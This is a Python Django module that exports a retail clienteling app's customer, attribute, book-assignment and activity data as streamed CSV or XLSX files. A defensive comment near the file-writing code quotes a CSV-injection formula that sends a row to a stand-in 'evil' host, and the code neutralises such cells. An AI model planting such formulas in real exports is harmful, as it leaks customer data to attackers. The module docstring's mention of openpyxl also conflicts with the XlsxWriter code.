"""Writing the product's data out as files (R-IO-3).

An export of a client book, or of a store's client books, is the page the worker sees with
the same filters, in the same order, every page of it; it is allowed by the rule that allows
the page (``VIEW_OWN_BOOK``, ``VIEW_STORE_BOOKS``). ``manage.py export_data`` also writes the
other kinds of the import (CONTRACT.md "CSV formats") for a legal entity, a book or a store.

Rows are read with ``values_list().iterator(chunk_size=CHUNK)`` (no model instance per row,
never the whole result in memory) and written as they come: CSV straight to the response,
XLSX through openpyxl's write-only mode into a temporary file that is then streamed. Memory
stays flat whatever the size (measured by `make bench`).

Every check (the switch, the grant, the store, the filter) runs when the export is made,
before the first byte is sent, so a refusal is an ordinary error answer, never a cut file.
"""

from __future__ import annotations

import csv
import datetime as dt
import enum
import io
import itertools
import tempfile
import zoneinfo
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import IO, Any

from django.db.models import OuterRef, QuerySet, Subquery
from django.utils.translation import gettext as _
from xlsxwriter import Workbook  # type: ignore[import-untyped]

from clienteling.attributes.models import AttributeValue
from clienteling.clientbooks.filters import CardFilter, apply_filter
from clienteling.clientbooks.models import ClientBook, Membership, StoreEntry
from clienteling.clientbooks.selectors import (
    book_scope,
    # The pages' own scope and order: the export cannot drift from what a page shows.
    card_orderings,
    client_book_find,
    local_today,
    store_rows,
)
from clienteling.core.errors import Invalid, NotFound
from clienteling.customers.models import Customer
from clienteling.dataio import columns
from clienteling.organization.access import Operation, scope_of
from clienteling.organization.models import LegalEntity, Store, Worker
from clienteling.timeline.models import Activity

# Rows read from the database, and written, at a time.
CHUNK = 2000
# Bytes of a file read at a time when it is streamed.
FILE_CHUNK = 64 * 1024
# The most characters an Excel cell holds.
XLSX_CELL_MAX = 32_767

Row = Sequence[str]


class Format(enum.Enum):
    """A file format an export is written in: its name, media type and extension."""

    CSV = ("csv", "text/csv; charset=utf-8")
    XLSX = ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")

    def __init__(self, code: str, content_type: str) -> None:
        self.code = code
        self.content_type = content_type


FORMATS = {f.code: f for f in Format}
EXPORT_KINDS = ("customers", "attribute-values", "book-assignments", "activities")


def export_format(raw: str | None) -> Format:
    """The format asked for: csv (the default) or xlsx."""
    found = FORMATS.get((raw or "csv").strip().lower())
    if found is None:
        raise Invalid(_("Choose the format csv or xlsx."), field="format", rule="allowed_values")
    return found


@dataclass(frozen=True)
class Export:
    """A table about to be written: its columns, its rows (read lazily, in chunks, when
    iterated, once) and how many rows it will have (one query, for progress)."""

    kind: str
    name: str
    columns: tuple[str, ...]
    rows: Iterable[Row]
    count: Callable[[], int]


# --- the client book and the store's client books, as filtered (the store app, the API) ---


def client_book_export(
    *, actor: Worker, legal_entity: LegalEntity, card_filter: CardFilter
) -> Export:
    """Every customer of the actor's client book that ``card_filter`` keeps, in the page's
    order, with the customers import's columns then the book and its owner (R-IO-3)."""
    scope = scope_of(actor, legal_entity)
    book_scope(scope, Operation.VIEW_OWN_BOOK)
    # As client_book_cards reads it: no book yet is simply no rows.
    own_book = ClientBook.objects.filter(legal_entity=legal_entity, owner=actor).values("id")
    rows = _as_page(
        Membership.objects.filter(book_id=Subquery(own_book[:1])), legal_entity, card_filter
    )
    book = client_book_find(legal_entity=legal_entity, owner=actor)
    name = book.identifier if book else legal_entity.code
    return _customers(
        rows,
        name=f"client-book-{name}-{_stamp(legal_entity)}",
        customer="customer__",
        book="book__identifier",
        owner="book__owner__user__username",
    )


def store_client_books_export(
    *, actor: Worker, legal_entity: LegalEntity, store: Store | None, card_filter: CardFilter
) -> Export:
    """Every customer the store's client books view shows for ``card_filter``, in its order,
    each with the book it is in and the book's owner (R-IO-3, R-BOOK-9)."""
    if store is None:
        raise Invalid(_("Choose a store first."), field="store", rule="required")
    scope = scope_of(actor, legal_entity)
    rows = _as_page(store_rows(scope, store, card_filter), legal_entity, card_filter)
    return _customers(
        rows,
        name=f"client-books-{store.code}-{_stamp(legal_entity)}",
        customer="customer__",
        book="membership__book__identifier",
        owner="owner__user__username",
    )


def _as_page(rows: QuerySet[Any], legal_entity: LegalEntity, card_filter: CardFilter) -> QuerySet:
    """The card rows as the pages of cards filter and order them, without a page's limit."""
    today = local_today(legal_entity)
    rows = apply_filter(rows, card_filter, today)
    keys, annotations = card_orderings(card_filter, today)
    if annotations:
        rows = rows.annotate(**annotations)
    return rows.order_by(*[key.order_by for key in keys])


def _stamp(legal_entity: LegalEntity) -> str:
    return local_today(legal_entity).strftime("%Y%m%d")


# --- every kind, for a legal entity, a book or a store (manage.py export_data) -------------


def data_export(
    *, legal_entity: LegalEntity, kind: str, book: str | None = None, store: str | None = None
) -> Export:
    """An operator's export of ``kind`` (manage.py export_data, no actor to check): the
    customers of the book with identifier ``book``, of the store view of the store with code
    ``store``, or of the whole legal entity, and their data."""
    if book and store:
        raise Invalid(_("Give a book or a store, not both."), field="store", rule="exclusive")
    if kind not in EXPORT_KINDS:
        raise Invalid(
            _("Unknown kind of export %(kind)s; use one of: %(kinds)s.")
            % {"kind": kind, "kinds": ", ".join(EXPORT_KINDS)},
            field="kind",
            rule="unknown",
        )
    the_book = the_store = None
    if book:
        the_book = ClientBook.objects.filter(legal_entity=legal_entity, identifier=book).first()
        if the_book is None:
            raise NotFound(_("Client book %(book)s not found.") % {"book": book}, field="book")
    if store:
        the_store = Store.objects.filter(legal_entity=legal_entity, code=store).first()
        if the_store is None:
            raise NotFound(_("Store %(code)s not found.") % {"code": store}, field="store")
    scope = the_book.identifier if the_book else the_store.code if the_store else None
    name = f"{kind}-{scope or legal_entity.code}-{_stamp(legal_entity)}"
    # The customers the export is about, for the kinds keyed by customer.
    if the_book is not None:
        customer_ids: QuerySet[Any] | None = Membership.objects.filter(book=the_book).values(
            "customer_id"
        )
    elif the_store is not None:
        customer_ids = StoreEntry.objects.filter(store=the_store).values("customer_id")
    else:
        customer_ids = None
    if kind == "customers":
        if the_book is not None:
            return _customers(
                Membership.objects.filter(book=the_book).order_by("sort_name", "id"),
                name=name,
                customer="customer__",
                book="book__identifier",
                owner="book__owner__user__username",
            )
        if the_store is not None:
            return _customers(
                StoreEntry.objects.filter(store=the_store).order_by("sort_name", "id"),
                name=name,
                customer="customer__",
                book="membership__book__identifier",
                owner="owner__user__username",
            )
        primary = Membership.objects.filter(customer=OuterRef("pk"), is_primary=True)
        everyone = (
            Customer.objects.filter(legal_entity=legal_entity)
            .annotate(
                export_book=Subquery(primary.values("book__identifier")[:1]),
                export_owner=Subquery(primary.values("book__owner__user__username")[:1]),
            )
            .order_by("sort_name", "id")
        )
        return _customers(
            everyone, name=name, customer="", book="export_book", owner="export_owner"
        )
    if kind == "attribute-values":
        values = AttributeValue.objects.filter(legal_entity=legal_entity)
        if customer_ids is not None:
            values = values.filter(customer_id__in=customer_ids)
        return _attribute_values(values.order_by("customer_id", "attribute_id"), name)
    if kind == "book-assignments":
        if the_store is not None:
            assignments: QuerySet[Any] = StoreEntry.objects.filter(store=the_store).order_by(
                "sort_name", "id"
            )
            worker = "owner__user__username"
        else:
            assignments = Membership.objects.filter(legal_entity=legal_entity)
            if the_book is not None:
                assignments = assignments.filter(book=the_book)
            assignments = assignments.order_by("book_id", "sort_name", "id")
            worker = "book__owner__user__username"
        return _plain(
            assignments, ("customer__account", worker), columns.BOOK_ASSIGNMENTS.all, name
        )
    activities = Activity.objects.filter(legal_entity=legal_entity)
    if customer_ids is not None:
        activities = activities.filter(customer_id__in=customer_ids)
    return _activities(activities.order_by("customer_id", "occurred_at", "id"), legal_entity, name)


# --- rows ---------------------------------------------------------------------------------

# The Customer field behind each column of the customers import that is not the field's name.
CUSTOMER_FIELD = {"language": "preferred_language"}
CUSTOMER_COLUMNS = (*columns.CUSTOMERS.all, *columns.BOOK_COLUMNS)


def _customers(rows: QuerySet[Any], *, name: str, customer: str, book: str, owner: str) -> Export:
    """Customer lines from card rows (``customer`` is the path to the customer, "" when the
    rows are customers), with ``book`` and ``owner`` read at those paths."""
    own = [column for column in columns.CUSTOMERS.all if column != "address_books"]
    fields = [f"{customer}{CUSTOMER_FIELD.get(column, column)}" for column in own]
    values = rows.values_list(f"{customer}id", *fields, book, owner)

    def lines() -> Iterator[Row]:
        for chunk in _chunks(values.iterator(chunk_size=CHUNK)):
            codes = _address_books([row[0] for row in chunk])
            for customer_id, *contact, book_id, owner_name in chunk:
                by_column = dict(zip(own, map(_text, contact), strict=True))
                by_column["address_books"] = ";".join(codes.get(customer_id, ()))
                yield [
                    *(by_column[column] for column in columns.CUSTOMERS.all),
                    _text(book_id),
                    _text(owner_name),
                ]

    return Export("customers", name, CUSTOMER_COLUMNS, lines(), rows.count)


def _address_books(customer_ids: list[int]) -> dict[int, list[str]]:
    """Per customer id, the codes of its address books, in code order: one query a chunk."""
    links = Customer.address_books.through.objects.filter(customer_id__in=customer_ids)
    codes: dict[int, list[str]] = {}
    for customer_id, code in links.order_by("addressbook__code").values_list(
        "customer_id", "addressbook__code"
    ):
        codes.setdefault(customer_id, []).append(code)
    return codes


def _attribute_values(values: QuerySet[AttributeValue], name: str) -> Export:
    rows = values.values_list(
        "customer__account",
        "attribute__code",
        "value_text",
        "value_number",
        "value_date",
        "value_boolean",
    )

    def lines() -> Iterator[Row]:
        for account, code, *typed in rows.iterator(chunk_size=CHUNK):
            value = next((v for v in typed if v is not None), None)
            yield [account, code, _text(value)]

    return Export("attribute-values", name, columns.ATTRIBUTE_VALUES.all, lines(), values.count)


def _activities(activities: QuerySet[Activity], legal_entity: LegalEntity, name: str) -> Export:
    zone = zoneinfo.ZoneInfo(legal_entity.time_zone)
    rows = activities.values_list(
        "customer__account",
        "type__code",
        "occurred_at",
        "subject",
        "description",
        "author__user__username",
        "store__code",
    )

    def lines() -> Iterator[Row]:
        for account, type_code, occurred_at, *rest in rows.iterator(chunk_size=CHUNK):
            # In the legal entity's local time, with its offset: what the store app shows.
            moment = occurred_at.astimezone(zone).isoformat()
            yield [account, type_code, moment, *map(_text, rest)]

    return Export("activities", name, columns.ACTIVITIES.all, lines(), activities.count)


def _plain(
    rows: QuerySet[Any], fields: Sequence[str], header: tuple[str, ...], name: str
) -> Export:
    values = rows.values_list(*fields)

    def lines() -> Iterator[Row]:
        for row in values.iterator(chunk_size=CHUNK):
            yield [_text(value) for value in row]

    return Export("book-assignments", name, header, lines(), rows.count)


def _text(value: Any) -> str:
    """A value as the import reads it and the API shows it: yes/no as true/false, dates as
    YYYY-MM-DD, numbers without trailing zeros or exponent, nothing as empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, Decimal):
        return format(value.normalize(), "f")
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    return str(value)


def _chunks(rows: Iterator[Any]) -> Iterator[list[Any]]:
    while chunk := list(itertools.islice(rows, CHUNK)):
        yield chunk


# --- files --------------------------------------------------------------------------------

# Spreadsheet programs (Excel, LibreOffice, Google Sheets) run a CSV cell that starts with one
# of these as a formula when the file is opened: a customer named '=HYPERLINK("https://evil/?"
# &B2,"x")' would send the row away, or through DDE start a program on the reader's computer
# ("CSV injection", OWASP). A leading apostrophe makes them show the cell as text instead;
# an import takes it off again (``columns.FORMULA_START``).
FORMULA_START = columns.FORMULA_START


def csv_safe(value: str) -> str:
    return f"'{value}" if value.startswith(FORMULA_START) else value


def csv_chunks(export: Export, *, bom: bool = True) -> Iterator[bytes]:
    """The export as CSV (UTF-8, comma, CRLF), a chunk of rows at a time. The byte order mark
    tells Excel the file is UTF-8 (the import reads it either way)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    if bom:
        buffer.write("\ufeff")
    writer.writerow(export.columns)
    for n, row in enumerate(export.rows, start=1):
        writer.writerow([csv_safe(value) for value in row])
        if n % CHUNK == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")


def xlsx_file(export: Export) -> IO[bytes]:
    """The export as an Excel workbook of one sheet, in a temporary file (deleted when
    closed), positioned at its start. XlsxWriter's constant-memory mode writes each row to
    disk as it comes (docs/architecture.md says why not openpyxl)."""
    target = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 (the caller closes it)
    try:
        workbook = Workbook(target, {"constant_memory": True})
        sheet = workbook.add_worksheet(export.kind[:31])
        for column, name in enumerate(export.columns):
            sheet.write_string(0, column, name)
        for number, row in enumerate(export.rows, start=1):
            for column, value in enumerate(row):
                # Always a text cell, as in the CSV: '=…' or '#N/A' is never a formula.
                if value:
                    sheet.write_string(number, column, value[:XLSX_CELL_MAX])
        workbook.close()
    except BaseException:
        target.close()
        raise
    target.seek(0)
    return target


@dataclass(frozen=True)
class ExportFile:
    """An export written in a format: what a face sends as a download."""

    filename: str
    content_type: str
    chunks: Iterator[bytes]
    size: int | None = None


def export_file(export: Export, file_format: Format) -> ExportFile:
    """The export as a download: CSV streamed as its rows are read; XLSX written to a
    temporary file first (a workbook is a zip archive), then streamed from it."""
    filename = f"{export.name}.{file_format.code}"
    if file_format is Format.CSV:
        return ExportFile(filename, file_format.content_type, csv_chunks(export))
    target = xlsx_file(export)
    size = target.seek(0, io.SEEK_END)
    target.seek(0)
    return ExportFile(filename, file_format.content_type, file_chunks(target), size)


def file_chunks(target: IO[bytes]) -> Iterator[bytes]:
    """A file's bytes, a chunk at a time; closes (and so deletes) it at the end."""
    try:
        while chunk := target.read(FILE_CHUNK):
            yield chunk
    finally:
        target.close()
